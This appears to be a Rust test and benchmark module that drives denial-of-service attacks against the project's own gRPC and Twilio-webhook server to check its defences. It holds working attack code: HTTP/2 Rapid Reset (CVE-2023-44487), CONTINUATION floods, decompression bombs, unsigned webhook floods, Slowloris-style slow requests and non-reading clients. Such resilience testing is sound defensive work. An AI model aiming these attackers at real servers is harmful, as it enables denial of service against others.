//! Whoever reaches a port and means ill, from the socket on: what no client of any library would do. The tests insist that it does no
//! harm; the benchmarks, which have this file as well, measure what it costs.

use std::{
    io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{Instant, sleep, timeout},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Kinds of frames (RFC 9113, 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
/// Flags of a head: it is whole, and nothing follows it.
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;
/// Longer than the server lets anybody begin.
const SLOW: Duration = Duration::from_secs(60);

#[derive(Clone, Copy, Debug)]
pub(crate) enum Attack {
    /// Calls that are opened and given up at once (CVE-2023-44487).
    RapidReset,
    /// Heads that never end.
    Continuation,
    /// Messages that say they are compressed, and a gigabyte long.
    Bombs,
    /// Callbacks that nobody signed.
    Callbacks,
    /// Clients who send their callback byte by byte.
    Slow,
    /// Clients who ask on and on, over HTTP/1.1 and HTTP/2, and read no answer.
    Deaf,
}

/// What is attacked.
#[derive(Clone, Debug)]
pub(crate) struct Target {
    /// Where calls go.
    pub(crate) grpc: SocketAddr,
    /// Where callbacks go.
    pub(crate) http: SocketAddr,
    pub(crate) practice: String,
}

/// What came of it so far.
#[derive(Debug, Default)]
struct Counts {
    tried: AtomicU64,
    ended: AtomicU64,
    taken: AtomicU64,
}

/// Those who attack, until they are ended.
pub(crate) struct Attackers {
    counts: Arc<Counts>,
    tasks: JoinSet<()>,
}

impl Attackers {
    /// Over so many connections at once. One that the server ends is opened anew.
    pub(crate) fn start(attack: Attack, connections: usize, target: &Target) -> Self {
        let (counts, mut tasks) = (Arc::<Counts>::default(), JoinSet::new());
        for number in 0..connections {
            let attacker = Attacker { attack, number, target: target.clone(), counts: Arc::clone(&counts) };
            tasks.spawn(attacker.attack());
        }
        Self { counts, tasks }
    }

    /// How often they tried.
    pub(crate) fn tried(&self) -> u64 {
        self.counts.tried.load(Relaxed)
    }

    /// How many of their connections the server ended.
    pub(crate) fn ended(&self) -> u64 {
        self.counts.ended.load(Relaxed)
    }

    /// How many of their callbacks were not refused.
    pub(crate) fn taken(&self) -> u64 {
        self.counts.taken.load(Relaxed)
    }

    /// Ends them, whatever they are at.
    pub(crate) async fn end(mut self) {
        self.tasks.shutdown().await;
    }
}

/// One of them, with one connection at a time.
struct Attacker {
    attack: Attack,
    number: usize,
    target: Target,
    counts: Arc<Counts>,
}

impl Attacker {
    async fn attack(self) {
        let at = match self.attack {
            Attack::Callbacks | Attack::Slow => self.target.http,
            Attack::Deaf if self.is_even() => self.target.http,
            _ => self.target.grpc,
        };
        loop {
            let Ok(mut tcp) = self.connect(at).await else {
                sleep(Duration::from_millis(50)).await;
                continue;
            };
            let done = match self.attack {
                Attack::RapidReset => self.resets(&mut tcp).await,
                Attack::Continuation => self.continuations(&mut tcp).await,
                Attack::Bombs => self.bombs(&mut tcp).await,
                Attack::Callbacks => self.callbacks(&mut tcp).await,
                Attack::Slow => self.slowly(&mut tcp).await,
                Attack::Deaf => self.deafly(&mut tcp).await,
            };
            if done.is_err() {
                self.counts.ended.fetch_add(1, Relaxed);
            }
        }
    }

    async fn connect(&self, at: SocketAddr) -> io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        if matches!(self.attack, Attack::Deaf) {
            // Or the system would take what nobody reads, and the server be rid of it.
            socket.set_recv_buffer_size(4 * 1024)?;
        }
        socket.connect(at).await
    }

    fn is_even(&self) -> bool {
        self.number.is_multiple_of(2)
    }

    fn tried(&self) {
        self.counts.tried.fetch_add(1, Relaxed);
    }

    async fn resets(&self, tcp: &mut TcpStream) -> io::Result<()> {
        begin(tcp).await?;
        for stream in streams() {
            let mut frames = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head());
            frames.extend(frame(RESET, 0, stream, &[0, 0, 0, 8]));
            tcp.write_all(&frames).await?;
            self.tried();
        }
        Ok(())
    }

    async fn continuations(&self, tcp: &mut TcpStream) -> io::Result<()> {
        begin(tcp).await?;
        tcp.write_all(&frame(HEADERS, 0, 1, &head())).await?;
        loop {
            // A field of the head that is as long as a frame may be, as a literal without index.
            let mut field = vec![0, 1, b'x', 0x7f, 0x81, 0x7e];
            field.resize(16_000, b'y');
            tcp.write_all(&frame(CONTINUATION, 0, 1, &field)).await?;
            self.tried();
        }
    }

    async fn bombs(&self, tcp: &mut TcpStream) -> io::Result<()> {
        begin(tcp).await?;
        for (stream, number) in streams().zip(0_u32..) {
            tcp.write_all(&frame(HEADERS, END_HEADERS, stream, &head())).await?;
            // One that is compressed, or one that is a gigabyte long.
            let flag = u8::from(number.is_multiple_of(2));
            let mut message = vec![flag, 0x40, 0, 0, 0];
            message.resize(16_000, 0);
            tcp.write_all(&frame(DATA, END_STREAM, stream, &message)).await?;
            self.tried();
            // The window wants to be moved on: what the server says is read and passed over.
            let mut heard = vec![0; 16_384];
            let _ = timeout(Duration::from_millis(1), tcp.read(&mut heard)).await;
        }
        Ok(())
    }

    async fn callbacks(&self, tcp: &mut TcpStream) -> io::Result<()> {
        let body = format!("Body={}", "x".repeat(60 * 1024));
        let request = format!(
            "POST /webhooks/twilio/{}/inbound HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             X-Twilio-Signature: AAAA\r\nContent-Length: {}\r\n\r\n{body}",
            self.target.practice,
            body.len()
        );
        let mut heard = vec![0; 4_096];
        loop {
            tcp.write_all(request.as_bytes()).await?;
            let count = tcp.read(&mut heard).await?;
            if count == 0 {
                return Err(io::ErrorKind::UnexpectedEof.into());
            }
            self.tried();
            if ![&b"HTTP/1.1 403"[..], b"HTTP/1.1 503"].iter().any(|refusal| heard[..count].starts_with(refusal)) {
                self.counts.taken.fetch_add(1, Relaxed);
            }
        }
    }

    async fn slowly(&self, tcp: &mut TcpStream) -> io::Result<()> {
        self.tried();
        let practice = &self.target.practice;
        let request =
            format!("POST /webhooks/twilio/{practice}/inbound HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n");
        // Half of them are slow with the head, the others with the body.
        let (fast, slow) = request.split_at(if self.is_even() { 10 } else { request.len() });
        tcp.write_all(fast.as_bytes()).await?;
        let begun = Instant::now();
        for byte in slow.bytes().chain(std::iter::repeat(b'x')) {
            if begun.elapsed() > SLOW {
                break;
            }
            sleep(Duration::from_secs(1)).await;
            tcp.write_all(&[byte]).await?;
        }
        Ok(())
    }

    async fn deafly(&self, tcp: &mut TcpStream) -> io::Result<()> {
        if self.is_even() {
            loop {
                tcp.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").await?;
                self.tried();
            }
        }
        begin(tcp).await?;
        for stream in streams() {
            tcp.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &head())).await?;
            self.tried();
        }
        Ok(())
    }
}

async fn begin(tcp: &mut TcpStream) -> io::Result<()> {
    tcp.write_all(PREFACE).await?;
    tcp.write_all(&frame(SETTINGS, 0, 0, &[])).await
}

/// As clients number them.
fn streams() -> impl Iterator<Item = u32> {
    (1..1_000_000).step_by(2)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = u32::try_from(payload.len()).unwrap().to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a call, in HPACK without a table or Huffman's code (RFC 7541).
fn head() -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/heedwell.v1.NotifyService/SendNotification"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()][..], text.as_bytes()].concat();
    fields.iter().flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
}
